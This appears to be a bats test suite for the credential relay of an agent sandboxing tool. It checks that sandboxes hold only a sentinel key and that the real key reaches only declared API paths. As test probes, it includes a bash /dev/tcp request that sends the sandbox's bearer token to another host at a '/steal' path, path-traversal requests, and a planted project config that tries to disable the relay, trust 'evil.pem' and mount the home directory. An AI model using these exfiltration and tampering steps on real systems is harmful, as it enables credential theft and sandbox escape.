#!/usr/bin/env bats
# The credential relay against the real engine (SEC-06 of
# ../shared/security-probes.md and the relay's lifecycle): a test agent
# "rl" (bash in a small image) whose definition declares one API route,
# RL_API_KEY at RL_BASE_URL.  The API is tests/gateway/tls-upstream.py on
# the docker bridge's address, over TLS with a CA of the test's own
# (ADR_EXTRA_CA); another host there (plain HTTP, allowlisted) logs what
# a sentinel sent elsewhere looks like.  The sandbox's client is bash's
# /dev/tcp.  Every refusal has its allowed control.

bats_require_minimum_version 1.5.0
load ../lib/testimage
load ../lib/hostip
load ../lib/tls

setup_file() {
  export ADR_BIN=${ADR_BIN:-$BATS_TEST_DIRNAME/../../build/adr}
  export PREFIX_ID="adrrl$$$RANDOM"
  adr_test_image "$PREFIX_ID"
  docker tag "$PREFIX_ID/sh:latest" "$PREFIX_ID/rl:latest"
  HOSTIP=$(bridge_host_ip)
  export HOSTIP
  local d=$BATS_FILE_TMPDIR
  test_ca "$d/tls" "IP:$HOSTIP"
  export API_LOG="$d/api.log" OTHER_LOG="$d/other.log"
  python3 "$BATS_TEST_DIRNAME/../gateway/tls-upstream.py" --bind "$HOSTIP" --log "$API_LOG" \
    --tls "$d/tls/srv.pem" "$d/tls/srv.key" >"$d/api.out" 2>"$d/api.err" &
  echo $! >"$d/api.pid"
  python3 "$BATS_TEST_DIRNAME/../gateway/tls-upstream.py" --bind "$HOSTIP" --log "$OTHER_LOG" --plain \
    >"$d/other.out" 2>"$d/other.err" &
  echo $! >"$d/other.pid"
  for _ in $(seq 100); do
    grep -q listening "$d/api.out" 2>/dev/null && grep -q listening "$d/other.out" 2>/dev/null && break
    sleep 0.1
  done
  export API_PORT=$(awk '/^listening/{print $2}' "$d/api.out")
  export OTHER_PORT=$(awk '/^listening/{print $2}' "$d/other.out")
  [ -n "$API_PORT" ] && [ -n "$OTHER_PORT" ] || { cat "$d/api.err" "$d/other.err" >&2; return 1; }
  export REAL_KEY="sk-relay-canary-$RANDOM$RANDOM$RANDOM"
}

teardown_file() {
  kill "$(cat "$BATS_FILE_TMPDIR/api.pid")" "$(cat "$BATS_FILE_TMPDIR/other.pid")" 2>/dev/null || true
  docker rmi "$PREFIX_ID/sh:latest" "$PREFIX_ID/rl:latest" >/dev/null 2>&1 || true
}

setup() {
  export HOME="$BATS_TEST_TMPDIR/home"
  export XDG_CONFIG_HOME="$HOME/.config" XDG_STATE_HOME="$HOME/.local/state"
  unset DOCKER_CONTEXT ADR_DEBUG
  mkdir -p "$HOME" "$XDG_CONFIG_HOME/adr/agents"
  printf 'ADR_IMAGE_PREFIX=%s\nADR_AGENT=rl\nADR_EXTRA_CA=%s\nADR_ALLOW=%s:%s\n' "$PREFIX_ID" \
    "$BATS_FILE_TMPDIR/tls/ca.pem" "$HOSTIP" "$OTHER_PORT" >"$XDG_CONFIG_HOME/adr/config"
  cat >"$XDG_CONFIG_HOME/adr/agents/rl.json" <<'JSON'
{ "name": "rl", "description": "test agent: bash with one relayed API",
  "npm": { "package": "none", "version": "0" }, "binary": "bash",
  "config": [ { "host": "~/.rl", "home": ".rl" } ],
  "args": { "interactive": [], "headless": ["-c", "{prompt}"] },
  "login_hosts": ["login.rl.test"],
  "credentials": {
    "hide": [".rl/login.json"],
    "routes": [ { "name": "api", "api": "openai", "base_env": "RL_BASE_URL", "key_env": ["RL_API_KEY"] } ] } }
JSON
  export RL_BASE_URL="https://$HOSTIP:$API_PORT/v1" RL_API_KEY="$REAL_KEY"
  WS="$BATS_TEST_TMPDIR/ws"
  mkdir -p "$WS"
  cd "$WS"
  : >"$API_LOG"
  : >"$OTHER_LOG"
}

teardown() {
  [ -z "${AGENT_NAME:-}" ] || "$ADR_BIN" rm --force --no-push "$AGENT_NAME" >/dev/null 2>&1 || true
  AGENT_NAME=
}

adr() { "$ADR_BIN" "$@"; }

# The sandbox's client, in bash: req METHOD PATH [KEY] sends a request to
# the relay (RL_BASE_URL) with "Authorization: Bearer KEY" (default: the
# sandbox's RL_API_KEY); prints the status code (CONNFAIL when nothing
# answers) and keeps the response in $RESP (default /tmp/resp).
LIB='
req() {
  local u=${RL_BASE_URL#http://}; local hp=${u%%/*}; local pre=/${u#*/}
  exec 3<>/dev/tcp/${hp%:*}/${hp#*:} 2>/dev/null || { echo CONNFAIL; return; }
  printf "%s %s%s HTTP/1.1\r\nHost: relay\r\nAuthorization: Bearer %s\r\nContent-Length: 2\r\nConnection: close\r\n\r\n{}" \
    "$1" "$pre" "$2" "${3:-$RL_API_KEY}" >&3
  local r=${RESP:-/tmp/resp}
  timeout 10 cat <&3 >"$r"; exec 3>&-
  local l; IFS= read -r l <"$r"; echo "${l:9:3}"
}
# through the egress proxy to another host, with the same header
elsewhere() { # url
  local p=${HTTP_PROXY#http://}
  exec 3<>/dev/tcp/${p%:*}/${p#*:} || { echo CONNFAIL; return; }
  printf "GET %s HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer %s\r\nConnection: close\r\n\r\n" "$1" "$RL_API_KEY" >&3
  local l; IFS= read -r -t 10 l <&3; exec 3>&-; echo "${l:9:3}"
}
'

sbx() { # script
  run --separate-stderr adr run rl --timeout 60s --prompt "$LIB $1"
}

# what an upstream log's requests carried in Authorization
auths() { jq -r '.headers[] | select(.[0] | ascii_downcase == "authorization") | .[1]' "$1"; }

@test "SEC-06 control: on a declared path the API gets the real key; the sandbox holds a sentinel" {
  sbx 'req POST /chat/completions; echo "$RL_API_KEY"; env | grep -c sk-relay-canary || true'
  [ "$status" -eq 0 ]
  [ "${lines[0]}" = 200 ]
  [[ "${lines[1]}" == adr-sentinel-* ]]
  [ "${lines[2]}" = 0 ]
  [ "$(auths "$API_LOG")" = "Bearer $REAL_KEY" ]
  [ "$(jq -r .target "$API_LOG")" = /v1/chat/completions ]
  # the decision log: the route and path, never a token
  elog=$(ls "$XDG_STATE_HOME"/adr/egress/*/egress.jsonl)
  grep -q '"via":"relay".*"verdict":"allow".*"route":"api","path":"/chat/completions","status":200' "$elog"
  ! grep -qE "$REAL_KEY|adr-sentinel-" "$elog"
}

@test "SEC-06 through a pooled egress unit: the routes come with the claim, the key only upstream" {
  export ADR_EGRESS_POOL=1
  run adr warm rl
  [ "$status" -eq 0 ]
  u=$(ls "$XDG_STATE_HOME/adr/pool" | grep '^adr-pool-')
  [ ! -e "$XDG_STATE_HOME/adr/pool/$u/relay" ] # a free unit holds no key
  sbx 'req POST /chat/completions; echo "$RL_API_KEY"; req POST /files'
  [ "$status" -eq 0 ]
  [ "${lines[0]}" = 200 ] || { echo "$output $stderr"; cat /tmp/resp 2>/dev/null; false; }
  [[ "${lines[1]}" == adr-sentinel-* ]]
  [ "${lines[2]}" = 403 ]
  [ "$(auths "$API_LOG")" = "Bearer $REAL_KEY" ]
  adr_settle
  # it was that unit's gateway, and it is gone with its routes
  [ "$(docker ps -aq --filter "label=dev.adr.for=$u" | wc -l)" -eq 0 ]
  ! grep -rqs "$REAL_KEY" "$XDG_STATE_HOME/adr/egress" "$XDG_STATE_HOME/adr/pool"
  "$ADR_BIN" prune >/dev/null
}

@test "SEC-06: paths the route does not declare are refused and nothing reaches the API" {
  sbx 'req POST /files; req GET /chat/completions/../../admin; req GET /%2e%2e/admin; req GET //chat/completions
       req POST /chat/completions'
  [ "$status" -eq 0 ]
  [ "$output" = "$(printf '403\n403\n403\n403\n200')" ] # the last: the control
  [ "$(jq -r .target "$API_LOG")" = /v1/chat/completions ]
}

@test "SEC-06: a sentinel sent to another host stays a sentinel" {
  sbx "elsewhere http://$HOSTIP:$OTHER_PORT/steal; req POST /chat/completions"
  [ "$status" -eq 0 ]
  [ "$output" = "$(printf '200\n200')" ]
  [[ "$(auths "$OTHER_LOG")" == "Bearer adr-sentinel-"* ]]
  ! grep -qF "$REAL_KEY" "$OTHER_LOG"
  [ "$(auths "$API_LOG")" = "Bearer $REAL_KEY" ] # control: the relay swaps it
}

@test "SEC-06: an upstream redirect is not followed and does not carry the key" {
  # the API answers 307 to another host; the relay passes it on; the
  # sandbox follows it with what it has: the sentinel
  sbx "req GET '/models/redirect?to=http://$HOSTIP:$OTHER_PORT/next'
       loc=\$(tr -d '\r' </tmp/resp | awk 'tolower(\$1)==\"location:\" {print \$2}'); echo \"\$loc\"
       elsewhere \"\$loc\""
  [ "$status" -eq 0 ]
  [ "$output" = "$(printf '307\nhttp://%s:%s/next\n200' "$HOSTIP" "$OTHER_PORT")" ]
  [ "$(wc -l <"$API_LOG")" -eq 1 ] # the relay did not follow it
  [ "$(auths "$API_LOG")" = "Bearer $REAL_KEY" ]
  [[ "$(auths "$OTHER_LOG")" == "Bearer adr-sentinel-"* ]]
  ! grep -qF "$REAL_KEY" "$OTHER_LOG"
}

@test "SEC-06: another sandbox's sentinel is refused" {
  AGENT_NAME=holder
  run adr start rl --name holder --prompt 'sleep 300'
  [ "$status" -eq 0 ]
  other=$(adr exec holder -- printenv RL_API_KEY)
  [[ "$other" == adr-sentinel-* ]]
  sbx "[ \"\$RL_API_KEY\" != '$other' ] && echo distinct; req POST /chat/completions '$other'
       req POST /chat/completions"
  [ "$status" -eq 0 ]
  [ "$output" = "$(printf 'distinct\n401\n200')" ]
  [ "$(wc -l <"$API_LOG")" -eq 1 ]
}

@test "relay stopped: requests fail closed; started again, or restarted by the engine after a crash: they work" {
  AGENT_NAME=longrun
  run adr start rl --name longrun --prompt 'sleep 300'
  [ "$status" -eq 0 ]
  cname=$(docker ps --filter "label=dev.adr.name=longrun" --format '{{.Names}}')
  probe() { adr exec longrun bash -c "$LIB req POST /chat/completions"; }
  run --separate-stderr probe
  [ "$output" = 200 ]
  docker stop -t 1 "$cname-gw" >/dev/null
  # fail closed: refused, or (the sandbox's ARP entry for the stopped
  # gateway still fresh) SYNs that nobody answers until the timeout
  run --separate-stderr adr exec longrun timeout 8 bash -c "$LIB req POST /chat/completions"
  [ "$output" = CONNFAIL ] || { [ "$status" -eq 124 ] && [ -z "$output" ]; }
  docker start "$cname-gw" >/dev/null
  for _ in $(seq 50); do [ -e "$XDG_STATE_HOME/adr/egress/$cname/ready" ] && break; sleep 0.1; done
  run --separate-stderr probe
  [ "$output" = 200 ]
  pid=$(docker inspect -f '{{.State.Pid}}' "$cname-gw")
  kill -9 "$pid"
  for _ in $(seq 100); do
    [ "$(docker inspect -f '{{.State.Running}} {{.State.Pid}}' "$cname-gw")" != "true $pid" ] &&
      [ "$(docker inspect -f '{{.State.Running}}' "$cname-gw")" = true ] && break
    sleep 0.1
  done
  sleep 0.5
  run --separate-stderr probe
  [ "$output" = 200 ]
  # three real requests reached the API, all with the key
  [ "$(auths "$API_LOG" | sort -u)" = "Bearer $REAL_KEY" ]
  [ "$(wc -l <"$API_LOG")" -eq 3 ]
  # the route file (the key) is readable by its owner only while the agent
  # lives, and gone with it
  rf="$XDG_STATE_HOME/adr/egress/$cname/relay"
  [ "$(stat -c %a "$rf")" = 400 ]
  run adr rm --force --no-push longrun
  [ "$status" -eq 0 ]
  AGENT_NAME=
  [ ! -e "$rf" ]
}

@test "an API that fails TLS verification gets nothing; the key from adr secret; login files not staged" {
  mkdir -p "$HOME/.rl"
  echo "{\"token\": \"$REAL_KEY\"}" >"$HOME/.rl/login.json"
  echo keep >"$HOME/.rl/settings"
  printf '%s' "$REAL_KEY" | adr secret set RL_API_KEY
  unset RL_API_KEY
  # a CA that did not sign the API's certificate: the relay refuses it
  test_ca "$BATS_TEST_TMPDIR/other-ca" "IP:$HOSTIP"
  printf 'ADR_EXTRA_CA=%s\n' "$BATS_TEST_TMPDIR/other-ca/ca.pem" >>"$XDG_CONFIG_HOME/adr/config"
  sbx 'req POST /chat/completions'
  [ "$output" = 502 ]
  [ ! -s "$API_LOG" ] || ! grep -q '"target"' "$API_LOG"
  # control: the right CA, and the key from the secret store
  printf 'ADR_EXTRA_CA=%s\n' "$BATS_FILE_TMPDIR/tls/ca.pem" >>"$XDG_CONFIG_HOME/adr/config"
  sbx 'req POST /chat/completions; ls -a ~/.rl /run/adr-stage/.rl | tr "\n" " "'
  [ "${lines[0]}" = 200 ]
  [[ "${lines[1]}" == *settings* ]]
  [[ "${lines[1]}" != *login.json* ]]
  [ "$(auths "$API_LOG" | tail -1)" = "Bearer $REAL_KEY" ]
}

@test "no key anywhere: said before the start with the three ways to give one; login hosts open only then" {
  unset RL_API_KEY
  sbx 'elsewhere http://login.rl.test/; elsewhere http://other.rl.test/'
  [ "$status" -eq 0 ]
  [[ "$stderr" == *"adr: warning: no API key found for rl (RL_API_KEY): the run will fail at its first request"* ]] ||
    { echo "$stderr"; false; }
  [[ "$stderr" == *"hint: give it one with 'adr secret set RL_API_KEY', in the host environment (RL_API_KEY=...), or use --no-relay to stage rl's own login"* ]]
  # before anything started: the warning precedes the sandbox
  adr_settle
  [ "$(docker ps -aq --filter "label=dev.adr.workspace=$WS" | wc -l)" -eq 0 ]
  # the login host is allowed (it resolves nowhere here: 502), others are not (403)
  [ "$output" = "$(printf '502\n403')" ]
  # control: with a key, the relay carries it, nothing is said, and the login host is closed
  export RL_API_KEY=$REAL_KEY
  sbx 'elsewhere http://login.rl.test/'
  [ "$status" -eq 0 ]
  [[ "$stderr" != *"no API key"* ]]
  [ "$output" = 403 ]
  # --no-relay stages the agent's own login: nothing to warn about
  unset RL_API_KEY
  run --separate-stderr adr run rl --no-relay --prompt true
  [ "$status" -eq 0 ]
  [[ "$stderr" != *"no API key"* ]]
  # interactive, on a terminal: it can log in by itself, through its login
  # hosts; with no network it cannot, and is told so
  run bash -c "printf 'exit\n' | timeout 120 script -qec '$ADR_BIN run rl' /dev/null"
  [[ "$output" == *"no API key found for rl (RL_API_KEY); it can only log in by itself (its login hosts are allowed: login.rl.test)"* ]] ||
    { echo "$output"; false; }
  run bash -c "printf 'exit\n' | timeout 120 script -qec '$ADR_BIN run rl --network none' /dev/null"
  [[ "$output" == *"no API key found for rl (RL_API_KEY); with no network it cannot log in by itself either"* ]] ||
    { echo "$output"; false; }
}

@test "--no-relay: the key goes in as the user passed it (the documented fallback)" {
  sbx 'echo "$RL_API_KEY"'
  [[ "$output" == adr-sentinel-* ]]
  run --separate-stderr adr run rl --no-relay -e RL_API_KEY --prompt 'echo "$RL_API_KEY"'
  [ "$status" -eq 0 ]
  [ "$output" = "$REAL_KEY" ]
}

@test "bad input: secret names and values, credentials in an agent definition, ADR_RELAY" {
  run adr secret set 'bad name' </dev/null
  [ "$status" -ne 0 ]
  [[ "$output" == *"invalid secret name 'bad name'"* ]]
  run adr secret set K <<<"two words"
  [ "$status" -ne 0 ]
  [[ "$output" == *"printable characters without spaces"* ]]
  [ ! -e "$XDG_STATE_HOME/adr/secrets/K" ]
  run adr secret rm NOPE
  [ "$status" -ne 0 ]
  [[ "$output" == *"no secret named 'NOPE'"* ]]
  run adr secret frob
  [ "$status" -eq 2 ]
  printf 'v1' | adr secret set B_KEY
  printf 'v2' | adr secret set A_KEY
  run adr secret ls
  [ "$output" = "$(printf 'A_KEY\nB_KEY')" ]
  [ "$(stat -c %a "$XDG_STATE_HOME/adr/secrets/A_KEY")" = 600 ]
  run adr secret rm A_KEY B_KEY
  [ "$status" -eq 0 ]
  run adr secret ls
  [ -z "$output" ]
  cat >"$XDG_CONFIG_HOME/adr/agents/bad.json" <<'JSON'
{ "name": "bad", "npm": { "package": "none", "version": "0" }, "binary": "bash",
  "args": { "interactive": [], "headless": ["-c", "{prompt}"] },
  "credentials": { "routes": [ { "name": "x", "api": "smtp", "upstream": "https://a", "key_env": ["K"] } ] } }
JSON
  run adr run bad --prompt true
  [ "$status" -ne 0 ]
  [[ "$output" == *"bad.json"*"\"api\" must be anthropic, openai or gemini"* ]]
  rm "$XDG_CONFIG_HOME/adr/agents/bad.json"
  run adr config set ADR_RELAY=maybe
  [ "$status" -ne 0 ]
  [[ "$output" == *"ADR_RELAY"*"expected on or off"* ]]
  # a base URL that is not https: not relayed, and the key not passed
  RL_BASE_URL=http://plain.test sbx 'echo "[${RL_API_KEY:-}]"'
  [ "$status" -eq 0 ]
  [ "$output" = "[]" ]
  [[ "$stderr" == *"RL_API_KEY from the environment is not relayed and not passed"*"not an https URL"* ]]
}

@test "open network mode: the relay serves on the sandbox's loopback, with the same checks" {
  run --separate-stderr adr run rl --network open --timeout 60s --prompt "$LIB
    echo \"\$RL_BASE_URL\"; req POST /chat/completions; req POST /files; req POST /chat/completions wrong"
  [ "$status" -eq 0 ]
  [ "$output" = "$(printf 'http://127.0.0.1:3129/api\n200\n403\n401')" ]
  [ "$(wc -l <"$API_LOG")" -eq 1 ]
  [ "$(auths "$API_LOG")" = "Bearer $REAL_KEY" ]
  # requests at once (the holder's process limit leaves the relay room)
  : >"$API_LOG"
  run --separate-stderr adr run rl --network open --timeout 60s --prompt "$LIB
    for i in 1 2 3 4 5 6 7 8 9 10 11 12; do (RESP=/tmp/r\$i req GET '/models/sse?n=3&ms=300' >/tmp/o\$i) & done; wait
    cat /tmp/o* | sort | uniq -c | tr -s ' '"
  [ "$status" -eq 0 ]
  [ "$output" = " 12 200" ]
}

@test "no network: the relay is off and the sandbox holds only the sentinel" {
  run --separate-stderr adr run rl --network none --timeout 60s --prompt "$LIB echo \"\$RL_API_KEY\"; req POST /chat/completions"
  [ "$status" -eq 0 ]
  [[ "${lines[0]}" == adr-sentinel-* ]]
  [ "${lines[1]}" = CONNFAIL ]
  [[ "$stderr" == *"no network: the credential relay is off"* ]]
  [ ! -s "$API_LOG" ]
}

@test "a killed adr run: its relay's key file goes with its gateway at the next run" {
  "$ADR_BIN" run rl --timeout 60s --prompt 'sleep 30' >/dev/null 2>&1 & # the process itself, not a function
  pid=$!
  for _ in $(seq 100); do
    rf=$(ls "$XDG_STATE_HOME"/adr/egress/*/relay 2>/dev/null | head -1)
    [ -n "$rf" ] && docker ps -q --filter "label=dev.adr.pid=$pid" | grep -q . && break
    sleep 0.1
  done
  [ -n "$rf" ]
  kill -9 "$pid"
  wait "$pid" 2>/dev/null || true
  [ -e "$rf" ] # nothing removed it yet
  sbx 'req POST /chat/completions'
  [ "$output" = 200 ]
  [ ! -e "$rf" ]
  adr_settle # and the new run's goes with its own
  [ -z "$(ls "$XDG_STATE_HOME"/adr/egress/*/relay 2>/dev/null)" ]
}

@test "a project .adr (which an agent can write) cannot turn the relay off or change its trust; a flag can" {
  printf 'ADR_RELAY=off\nADR_EXTRA_CA=/workspace/evil.pem\nADR_DNS=10.9.9.9\nADR_MOUNTS=%s:/host:rw\nADR_TIMEOUT=50s\n' \
    "$HOME" >"$WS/.adr"
  sbx 'req POST /chat/completions; echo "$RL_API_KEY"; [ -e /host ] && echo MOUNTED || echo none'
  [ "$status" -eq 0 ]
  [ "${lines[0]}" = 200 ]
  [[ "${lines[1]}" == adr-sentinel-* ]]
  [ "${lines[2]}" = none ]
  for k in ADR_RELAY ADR_EXTRA_CA ADR_DNS ADR_MOUNTS; do
    [[ "$stderr" == *"$WS/.adr:"*": $k is ignored in a project file (an agent can write one)"* ]]
  done
  run --separate-stderr adr config get ADR_TIMEOUT # control: other keys still apply
  [ "$output" = 50s ]
  run adr config set --project ADR_RELAY=off
  [ "$status" -ne 0 ]
  [[ "$output" == *"config set --project ADR_RELAY: not in a project file"* ]]
  # --no-relay says so, every time
  run --separate-stderr adr run rl --no-relay --prompt true
  [[ "$stderr" == *"credential relay off (--no-relay)"* ]]
}
